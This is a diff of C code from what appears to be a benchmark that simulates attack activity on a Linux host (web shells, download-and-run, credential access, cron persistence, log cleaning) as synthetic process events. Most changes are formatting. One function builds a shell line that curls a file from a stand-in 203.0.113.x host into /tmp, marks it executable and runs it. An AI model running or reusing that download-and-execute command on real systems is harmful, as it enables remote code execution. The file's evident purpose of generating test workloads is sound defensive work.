@@ -9,19 +9,29 @@
 #include "tests/bench/lib_emit.h"
 #include "tests/bench/lib_plan.h"
 
+/* clang-format off */
 enum attack {
 	ATTACK_WEB_SHELL, ATTACK_DOWNLOAD, ATTACK_CREDENTIALS, ATTACK_PERSISTENCE, ATTACK_MEMFD,
 	ATTACK_INJECTION, ATTACK_LOGS, ATTACK_MODULE, ATTACK_COUNT,
 };
+/* clang-format on */
 
 /* Children within a sequence. */
-enum stage { STAGE_SHELL, STAGE_ID, STAGE_CURL, STAGE_CHMOD, STAGE_PAYLOAD, STAGE_SUDO, STAGE_BODY };
+enum stage {
+	STAGE_SHELL,
+	STAGE_ID,
+	STAGE_CURL,
+	STAGE_CHMOD,
+	STAGE_PAYLOAD,
+	STAGE_SUDO,
+	STAGE_BODY
+};
 
 const char *plan_attack_name(uint32_t i)
 {
 	static const char *const names[] = {
-		"web shell", "download and run", "credential access", "persistence by cron",
-		"run from memfd", "process injection", "log cleaning", "kernel module",
+		"web shell",	  "download and run",  "credential access", "persistence by cron",
+		"run from memfd", "process injection", "log cleaning",	    "kernel module",
 	};
 
 	return names[(i - 1) % ATTACK_COUNT];
@@ -74,7 +84,8 @@ static void call_home(struct machine *m, struct task *t, uint32_t number, uint16
 	plan_op(m, t, OP_CLOSE, sock)->fd = 3;
 }
 
-static void stage(struct machine *m, struct task *t, uint32_t number, enum stage which, uint32_t file)
+static void stage(struct machine *m, struct task *t, uint32_t number, enum stage which,
+		  uint32_t file)
 {
 	plan_fork(m, t, PLAN_ATTACK, which, (uint64_t)file << 32 | number);
 	plan_wait(m, t, 0);
@@ -86,8 +97,10 @@ static void shell(struct machine *m, struct task *t, uint32_t number)
 	uint32_t file = tool(m, number);
 	char line[128];
 
-	snprintf(line, sizeof(line), "id; curl -so /tmp/.x%u http://203.0.113.%u/x%u; chmod +x /tmp/.x%u; "
-		 "/tmp/.x%u", number, 1 + number % 254, number, number, number);
+	snprintf(line, sizeof(line),
+		 "id; curl -so /tmp/.x%u http://203.0.113.%u/x%u; chmod +x /tmp/.x%u; "
+		 "/tmp/.x%u",
+		 number, 1 + number % 254, number, number, number);
 	image_arg(i, "sh");
 	image_arg(i, "-c");
 	image_arg(i, line);
@@ -255,18 +268,20 @@ void plan_attack(struct machine *m, struct task *t, const struct op *fork)
 		small_stage(m, t, (enum stage)fork->a, number, file);
 }
 
-/* Each begins in a process that is of its kind: a PHP worker, a shell of a user or of root. */
+/* Each begins in a process of its kind that does nothing else: a PHP worker, somebody's shell. */
 bool plan_attack_begin(struct machine *m, uint32_t i)
 {
 	enum attack kind = (enum attack)((i - 1) % ATTACK_COUNT);
-	enum workload work = kind == ATTACK_WEB_SHELL ? WORK_WEB :
-			     kind == ATTACK_PERSISTENCE || kind >= ATTACK_LOGS ? WORK_PACKAGE :
-										 WORK_SCRIPT;
+	uint32_t uid = 1000;
 
+	if (kind == ATTACK_WEB_SHELL)
+		uid = 33;
+	else if (kind == ATTACK_PERSISTENCE || kind >= ATTACK_LOGS)
+		uid = 0;
 	for (uint32_t k = 0; k < m->n_standing; k++) {
 		struct task *t = m->standing[k];
 
-		if (!t->idle || m->standing_work[k] != work || t->proc->image->exe == m->bin.nginx)
+		if (!t->idle || m->standing_work[k] != WORK_ATTACK || t->proc->creds.uid != uid)
 			continue;
 		t->n = t->at = 0;
 		t->proc->plant = (uint16_t)i;
